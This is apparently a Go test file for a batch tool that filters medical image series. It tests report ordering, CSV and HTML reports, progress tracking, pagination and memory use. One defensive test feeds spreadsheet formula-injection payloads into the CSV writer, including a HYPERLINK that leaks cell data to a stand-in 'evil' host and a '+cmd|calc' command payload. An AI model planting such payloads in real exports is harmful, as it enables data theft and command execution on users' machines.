package batch

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"quell/app/job"
)

func TestReportOrder(t *testing.T) {
	done := func(unit, verdict string) SeriesResult {
		return SeriesResult{ID: unit, Unit: unit, State: Done, Judgement: verdict}
	}
	warned := done("warned", "good")
	warned.Warnings = []string{"Gaps."}
	all := []SeriesResult{
		{Unit: "copy", State: Duplicate}, done("good", "good"), done("little", "little"), warned, done("unsure", "unknown"), done("texture", "texture"), done("fades", "fades"),
		{Unit: "z", State: Failed}, {Unit: "y", Series: "2", State: Failed}, {Unit: "y", Series: "1", State: Failed},
	}
	var names []string
	for r := range summaryOf(all...).Results() {
		names = append(names, r.Unit+r.Series)
	}
	equal(t, "order", names, []string{"y1", "y2", "z", "fades", "texture", "unsure", "warned", "good", "little", "copy"})
}

func TestReports(t *testing.T) {
	c := newCohort(t)
	c.nii("good, <1>.nii", 1)
	c.must(os.Truncate(c.nii("cut.nii", 2), 400))
	s := c.run(c.options())
	rows := c.rows()
	equal(t, "first row", []string{rows[0]["input"], rows[0]["state"], rows[0]["sigma"], rows[0]["filter_s"], rows[0]["output"]}, []string{"cut.nii", "failed", "", "", ""})
	equal(t, "problem", rows[0]["problem"], resultsOf(s)[0].Problem)
	good := rows[1]
	equal(t, "second row", []string{good["input"], good["state"], good["problem"], good["output"], good["dims"], good["engine"], good["files"]},
		[]string{"good, <1>.nii", "done", "", "good, <1>.nii", "8 x 6 x 3", "cpu", "1"})
	for _, name := range []string{"load_s", "wait_s", "filter_s", "measure_s", "write_s"} {
		if !regexp.MustCompile(`^\d+\.\d{3}$`).MatchString(good[name]) {
			t.Errorf("%s is %q", name, good[name])
		}
	}
	if !strings.HasPrefix(good["recipe"], "gaussian 2-D") || good["judgement"] == "" || good["why"] == "" {
		t.Errorf("%v", good)
	}
	data, err := os.ReadFile(filepath.Join(c.out, "report.html"))
	c.must(err)
	html := string(data)
	for _, text := range []string{"1 of 2 series filtered, 1 failed", "good, &lt;1&gt;.nii", "data:image/jpeg;base64,", "gaussian 2-D"} {
		if !strings.Contains(html, text) {
			t.Errorf("the page lacks %q", text)
		}
	}
	if strings.Index(html, "cut.nii") > strings.Index(html, "good, &lt;1&gt;.nii") {
		t.Error("the failure does not come first")
	}
	if found := regexp.MustCompile(`(src|href)="([^"d]|d[^"a])`).FindString(html); found != "" {
		t.Errorf("the page refers to another file: %s", found)
	}
}

// TestTheTableIsNoProgram gives names and descriptions that a spreadsheet would compute.
func TestTheTableIsNoProgram(t *testing.T) {
	c := newCohort(t)
	formulas := []string{`=HYPERLINK("http://evil/?"&A1,"x")`, "+cmd|calc", "@SUM(1)", "-1+1"}
	var all []SeriesResult
	for i, text := range formulas {
		all = append(all, SeriesResult{ID: strconv.Itoa(i), Unit: text, Series: text, Output: text, Problem: text, SameAs: text, Judgement: text, Why: text, Warnings: []string{text}, Format: text, Modality: text, Engine: text})
	}
	path := filepath.Join(t.TempDir(), "report.csv")
	c.must(writeCSV(path, summaryOf(all...).results))
	file, err := os.Open(path)
	c.must(err)
	defer file.Close()
	rows, err := csv.NewReader(file).ReadAll()
	c.must(err)
	if len(rows) != len(formulas)+1 {
		t.Fatalf("%d rows", len(rows))
	}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "+") || strings.HasPrefix(cell, "-") || strings.HasPrefix(cell, "@") {
				t.Errorf("%s is %q", columns[i].name, cell)
			}
		}
	}
}

func TestSigmaIsSilentWithoutAnEstimate(t *testing.T) {
	for _, x := range []struct {
		r    SeriesResult
		want string
	}{
		{SeriesResult{State: Done, Sigma: 1.23456, SigmaConfidence: "low"}, "1.235"}, {SeriesResult{State: Done, Sigma: 3, SigmaConfidence: "none"}, ""}, {SeriesResult{State: Failed, Sigma: 3}, ""},
	} {
		if got := sigmaText(x.r); got != x.want {
			t.Errorf("%+v: %q", x.r, got)
		}
	}
}

// TestProgress: the time left follows from the bytes that were worked on, without the bytes
// that were there before.
func TestProgress(t *testing.T) {
	now := time.Unix(0, 0)
	var last Progress
	p := meter{events: Events{Progress: func(s Progress) { last = s }}, now: func() time.Time { return now }}
	a, b, c := Unit{Name: "a", Bytes: 100}, Unit{Name: "b", Bytes: 200}, Unit{Name: "c", Bytes: 100}
	p.begin([]Unit{a, b, c})
	step := func(what string, seconds int64, do func(), share float64, left time.Duration) {
		t.Helper()
		now = time.Unix(seconds, 0)
		do()
		if last.Share != share || last.Left != left {
			t.Errorf("%s: %v, %v left; want %v, %v", what, last.Share, last.Left, share, left)
		}
	}
	step("reused", 1, func() { p.part(a, 100, true) }, 0.25, 0)
	step("its unit", 1, func() { p.unit(a) }, 0.25, 0)
	step("half a unit", 10, func() { p.part(b, 100, false) }, 0.5, 20*time.Second)
	step("more than the unit", 20, func() { p.part(b, 300, false) }, 0.75, 10*time.Second)
	step("its unit", 20, func() { p.unit(b) }, 0.75, 10*time.Second)
	step("an unselected unit", 21, func() { p.unit(c) }, 1, 0)
	p.unselected()
	for _, r := range []SeriesResult{{ID: "1", State: Done}, {ID: "2", State: Done, Reused: true}, {ID: "3", State: Failed}, {ID: "4", State: Duplicate, Picture: []byte{1}}} {
		p.result(r, r.State != Failed)
	}
	equal(t, "counts", []int{last.Done, last.Reused, last.Failed, last.Duplicates, last.Unselected}, []int{2, 1, 1, 1, 1})
	p.result(SeriesResult{ID: "3", State: Done}, true) // a unit that was delivered again
	p.result(SeriesResult{ID: "2", State: Failed, Picture: []byte{1}}, false)
	equal(t, "counts again", []int{last.Done, last.Reused, last.Failed, last.Duplicates}, []int{2, 0, 1, 1})
	p.left(Left{Units: 1}, 4) // of units that others do; results do not change the share
	p.result(SeriesResult{ID: "5", State: Done}, true)
	equal(t, "share", last.Share, 0.75)
	if r, ok := p.unsaved["2"]; len(p.rows) != 5 || len(p.unsaved) != 1 || !ok || r.Picture != nil {
		t.Errorf("%v, not in the store: %v", p.rows, p.unsaved)
	}
}

func TestEveryEventIsOptional(t *testing.T) {
	c := newCohort(t)
	c.nii("a.nii", 1)
	var got []string
	_, err := Run(t.Context(), c.options(), Events{Result: func(r SeriesResult) { got = append(got, r.Unit+" "+string(r.State)) }, Progress: func(s Progress) { got = append(got, "status") }})
	c.must(err)
	if !slices.Contains(got, "a.nii done") || !slices.Contains(got, "status") {
		t.Errorf("%v", got)
	}
}

// TestReportHasPages of a bounded number of series, which lead to each other; the pages of a longer
// report go.
func TestReportHasPages(t *testing.T) {
	dir := t.TempDir()
	recipe := optionsOf("", "").Job.Recipe
	b := &batch{store: store{dir}, o: Options{Job: job.Job{Recipe: recipe}}}
	read := func(name string) string {
		t.Helper()
		data, err := os.ReadFile(filepath.Join(dir, filepath.FromSlash(name)))
		if err != nil {
			t.Fatal(err)
		}
		return string(data)
	}
	for _, x := range []struct{ series, pages int }{{2*pageRows + 1, 3}, {2 * pageRows, 2}, {pageRows, 1}, {0, 1}} {
		var all []SeriesResult
		for i := range x.series {
			r := SeriesResult{Unit: fmt.Sprintf("s%04d.nii", i), State: Done, Judgement: "good", Picture: []byte{1}}
			if i%100 == 99 {
				r.State, r.Problem = Failed, "cut off"
			}
			all = append(all, r)
		}
		if err := b.writeHTML(summaryOf(all...).results, 0); err != nil {
			t.Fatal(err)
		}
		rows := 0
		for n := 1; n <= x.pages; n++ {
			html := read(pageFile(n))
			rows += strings.Count(html, `<td class="name">`)
			if !strings.Contains(html, fmt.Sprintf("%d of %d series filtered", x.series-x.series/100, x.series)) {
				t.Errorf("%d series, page %d: no counts", x.series, n)
			}
			var links []string
			for _, m := range regexp.MustCompile(`<a href="([^"]+)"`).FindAllStringSubmatch(html, -1) {
				links = append(links, filepath.ToSlash(filepath.Join(filepath.Dir(filepath.FromSlash(pageFile(n))), filepath.FromSlash(m[1]))))
			}
			var want []string
			for k := 1; k <= x.pages; k++ {
				if k != n {
					want = append(want, pageFile(k))
				}
			}
			if !slices.Equal(links, want) {
				t.Errorf("%d series, page %d leads to %q; want %q", x.series, n, links, want)
			}
		}
		if rows != x.series {
			t.Errorf("%d series in %d rows", x.series, rows)
		}
		if _, err := os.Stat(filepath.Join(dir, filepath.FromSlash(pageFile(max(x.pages, 1)+1)))); err == nil {
			t.Errorf("%d series: a page of a longer report is left", x.series)
		}
	}
}

// TestSummaryAsJSON has the counts and the results, one by one.
func TestSummaryAsJSON(t *testing.T) {
	for _, n := range []int{0, 1, 3} {
		var all []SeriesResult
		for i := range n {
			all = append(all, SeriesResult{Unit: fmt.Sprint("s", i), State: Done, Picture: []byte{1}})
		}
		s := summaryOf(all...)
		s.Done, s.Output = n, "out"
		var text strings.Builder
		if err := s.WriteJSON(&text); err != nil {
			t.Fatal(err)
		}
		var back struct {
			Done    int
			Output  string
			Results []SeriesResult
		}
		if err := json.Unmarshal([]byte(text.String()), &back); err != nil || back.Done != n || back.Output != "out" || back.Results == nil {
			t.Fatalf("%v, %+v\n%s", err, back, text.String())
		}
		equal(t, "results", len(back.Results), n)
		for i, r := range back.Results {
			equal(t, "unit", []any{r.Unit, r.Picture}, []any{fmt.Sprint("s", i), []byte(nil)})
		}
	}
}

// TestMemoryOfAResult: what stays in memory of a series is some hundred bytes, whatever its picture
// and its sentences take.
func TestMemoryOfAResult(t *testing.T) {
	p := meter{now: time.Now}
	p.begin(nil)
	const n = 2000
	heap := func() int64 {
		var m runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&m)
		return int64(m.HeapAlloc)
	}
	before := heap()
	for i := range n {
		p.result(SeriesResult{ID: fmt.Sprintf("%016d", i), Unit: fmt.Sprintf("p%04d/s.nii", i), State: Done, Picture: make([]byte, 12000), Why: strings.Repeat("w", 1000)}, true)
	}
	if each := (heap() - before) / n; each > 500 {
		t.Errorf("%d bytes of each", each)
	}
	runtime.KeepAlive(&p)
}
